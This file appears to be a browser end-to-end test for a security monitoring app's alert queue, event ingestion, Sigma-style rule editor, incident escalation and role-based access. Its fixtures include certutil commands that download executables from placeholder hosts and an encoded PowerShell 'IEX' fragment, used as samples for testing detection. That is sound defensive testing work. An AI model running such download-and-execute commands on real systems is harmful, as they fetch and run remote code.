// Threat monitoring in a real browser: a CSIRT member reads the alert queue of the demo
// group, adds an event source and copies its token, sends events with it and watches the
// new alert arrive in the queue without reloading, writes a rule in the editor that checks
// as she types and tests it on sample events, and escalates an alert to an incident; the
// company security administrator reads the queue in Japanese and cannot write rules.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { startServer, launch, signIn, SHOTS } from './helpers.mjs';

const PASSWORD = 'demo-password-2026';

const RULE_OK = `title: Certutil downloads a file
id: 3e1f5a2b-6c7d-4e8f-9a0b-1c2d3e4f5a6b
status: experimental
logsource:
  product: windows
  category: process_creation
detection:
  selection:
    Image|endswith: '\\certutil.exe'
    CommandLine|contains: urlcache
  condition: selection
level: high
`;

function sysmon(host, image, command) {
  return JSON.stringify({
    '@timestamp': new Date().toISOString(),
    winlog: { channel: 'Microsoft-Windows-Sysmon/Operational', event_id: 1, computer_name: host, event_data: { Image: image, CommandLine: command, User: 'AOZORA\\m.kato' } },
  });
}

test('monitoring: alert queue, a new source and its token, live alerts, the rule editor, escalation', async () => {
  const server = await startServer({ demo: true });
  const csirt = await launch('en-GB');
  const admin = await launch('ja-JP');
  try {
    await signIn(csirt.page, server.base, 'csirt', PASSWORD);
    const p = csirt.page;

    // The demo's alerts, most urgent visible at a glance.
    await p.goto(`${server.base}/monitoring`);
    await p.waitForSelector('#alerts tr.alert-row');
    assert.equal(await p.locator('#alerts tr.alert-row').count(), 4);
    assert.match(await p.locator('#alerts tr', { hasText: 'Shadow copies deleted' }).textContent(), /Critical/);
    assert.match(await p.locator('#alert-tally').textContent(), /Critical\s*1/);
    await p.screenshot({ path: `${SHOTS}monitoring-queue-en.png`, fullPage: true });

    // A new source: its token is shown once.
    await p.goto(`${server.base}/monitoring/sources`);
    await p.fill('#name', 'AZA kiosks');
    await p.selectOption('#company_id', await p.locator('#company_id option', { hasText: /^AZA / }).getAttribute('value'));
    await p.selectOption('#kind', 'windows');
    await p.fill('#expected_minutes', '30');
    await p.click('#source-create');
    await p.waitForSelector('#token-value');
    const token = (await p.textContent('#token-value')).trim();
    assert.match(token, /^isms_src_/);
    await p.screenshot({ path: `${SHOTS}monitoring-source-token-en.png`, fullPage: true });

    // A rule written in the editor: refused while wrong, tested on samples, then saved.
    await p.goto(`${server.base}/monitoring/rules/new`);
    await p.fill('#body', RULE_OK.replace('condition: selection', 'condition: selection and missing'));
    await p.locator('#body').press('End');
    await p.waitForSelector('#check-problems:has-text("missing")');
    assert.match(await p.textContent('#check-problems'), /missing/);
    await p.fill('#body', RULE_OK);
    await p.locator('#body').press('End');
    await p.waitForSelector('#check-ok');
    await p.fill('#samples', [
      JSON.stringify({ Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1, Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -urlcache -f http://x.example/a.exe a.exe' }),
      JSON.stringify({ Channel: 'Microsoft-Windows-Sysmon/Operational', EventID: 1, Image: 'C:\\Windows\\System32\\certutil.exe', CommandLine: 'certutil -hashfile a.exe' }),
    ].join('\n'));
    await p.click('#rule-test');
    await p.waitForSelector('#sample-results li.hit');
    assert.equal(await p.locator('#sample-results li.hit').count(), 1);
    assert.equal(await p.locator('#sample-results li.miss').count(), 1);
    await p.screenshot({ path: `${SHOTS}monitoring-rule-editor-en.png`, fullPage: true });
    await p.click('#rule-save');
    await p.waitForURL(/\/monitoring\/rules\/[0-9a-f-]{36}$/);
    assert.match(await p.textContent('h1'), /Certutil downloads a file/);

    // Events sent with the new token: the new rule fires and the queue shows it by itself.
    await p.goto(`${server.base}/monitoring`);
    const body = [sysmon('AZA-KIOSK-07', 'C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://198.51.100.7/p.exe p.exe'), 'not an event'].join('\n');
    const r = await fetch(`${server.base}/api/v1/events`, { method: 'POST', headers: { authorization: `Bearer ${token}`, 'content-type': 'application/x-ndjson' }, body });
    assert.equal(r.status, 200);
    assert.deepEqual(await r.json(), { accepted: 1, malformed: 1, alerts: 1 });
    await p.waitForSelector('#alerts tr:has-text("Certutil downloads a file")', { timeout: 20000 });

    // The overview: the sources' rates and health, alerts by state, time to acknowledge.
    await p.goto(`${server.base}/monitoring/overview`);
    await p.waitForSelector('#source-rates');
    assert.match(await p.locator('#source-rates tr', { hasText: 'AZA kiosks' }).textContent(), /Receiving/);
    assert.match(await p.locator('#source-rates tr', { hasText: 'Group perimeter firewall' }).textContent(), /Group perimeter firewall/);
    assert.match(await p.locator('#alerts-by-state').textContent(), /New\s*5/);
    await p.screenshot({ path: `${SHOTS}monitoring-overview-en.png`, fullPage: true });
    await p.goto(`${server.base}/monitoring`);

    // Triage: acknowledge, then escalate to an incident with the events attached.
    await p.click('#alerts a:has-text("PowerShell with an encoded command")');
    await p.waitForSelector('#alert-ack');
    assert.match(await p.textContent('pre.raw'), /-enc SQBFAFgA/);
    await p.click('#alert-ack');
    await p.waitForSelector('#alert-state:has-text("Acknowledged")');
    await p.screenshot({ path: `${SHOTS}monitoring-alert-en.png`, fullPage: true });
    await p.selectOption('#kind', 'malware');
    await p.click('#alert-escalate');
    await p.waitForURL(/\/incidents\/[0-9a-f-]{36}$/);
    assert.match(await p.textContent('h1'), /PowerShell with an encoded command/);
    assert.match(await p.textContent('body'), /alert-.*\.json/);
    await p.screenshot({ path: `${SHOTS}monitoring-escalated-incident-en.png`, fullPage: true });
    // The case says in words what the alert was: its severity carried over, times local.
    const caseUrl = p.url();
    const ref = (await p.textContent('h1')).match(/INC-\d{4}-\d{4}/)[0];
    assert.match(await p.textContent('#summary'), /Escalated from|alert/i);
    assert.doesNotMatch(await p.textContent('#summary'), /[0-9a-f]{8}-[0-9a-f]{4}-/, 'no raw ids in what the case says');
    // A second alert goes into the same case rather than a new one.
    await p.goto(`${server.base}/monitoring`);
    await p.click('#alerts a:has-text("Certutil downloads a file")');
    await p.waitForSelector('#alert-escalate');
    const into = await p.locator('#incident_id option', { hasText: ref }).getAttribute('value');
    await p.selectOption('#incident_id', into);
    await p.click('#alert-escalate');
    await p.waitForURL(caseUrl);
    assert.match(await p.textContent('.flash'), /added/i);
    assert.match(await p.textContent('#timeline'), /Certutil downloads a file/);
    await p.screenshot({ path: `${SHOTS}monitoring-alert-added-to-case-en.png`, fullPage: true });
    assert.deepEqual(csirt.problems, []);

    // The company administrator, in Japanese: her company's queue, no rule editing.
    const a = admin.page;
    await signIn(a, server.base, 'secadmin', PASSWORD);
    await a.goto(`${server.base}/monitoring`);
    await a.waitForSelector('#alerts');
    assert.match(await a.textContent('h1'), /アラートキュー/);
    assert.ok(await a.locator('#alerts tr', { hasText: 'Shadow copies deleted' }).count() === 1);
    await a.screenshot({ path: `${SHOTS}monitoring-queue-ja.png`, fullPage: true });
    await a.goto(`${server.base}/monitoring/rules`);
    assert.equal(await a.locator('#rule-new').count(), 0);
    const denied = await a.goto(`${server.base}/monitoring/rules/new`);
    assert.equal(denied.status(), 403);
    assert.deepEqual(admin.problems.filter((m) => !/status of 403/.test(m)), []);
  } finally {
    await csirt.browser.close();
    await admin.browser.close();
    await server.stop();
  }
});
